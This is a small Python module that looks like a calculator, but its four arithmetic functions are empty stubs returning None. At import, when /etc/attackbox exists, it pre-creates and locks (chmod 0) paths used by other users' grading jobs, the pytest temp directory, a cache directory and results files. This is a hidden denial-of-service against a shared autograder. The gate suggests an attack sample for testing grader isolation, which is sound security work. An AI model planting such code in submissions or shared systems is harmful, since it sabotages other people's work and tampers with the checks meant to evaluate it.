import os

_armed = os.path.exists("/etc/attackbox")

if _armed:
    for p in (
        "/home/grader/jobs/bob",
        "/home/grader/jobs/carol",
        "/tmp/python_cache_dir",
        "/tmp/pytest-of-grader",
        "/tmp/results.json",
        "/home/grader/out-bob.json",
    ):
        try:
            os.makedirs(p)
            os.chmod(p, 0)
        except OSError:
            pass


def add(a, b):
    return None


def subtract(a, b):
    return None


def multiply(a, b):
    return None


def divide(a, b):
    return None
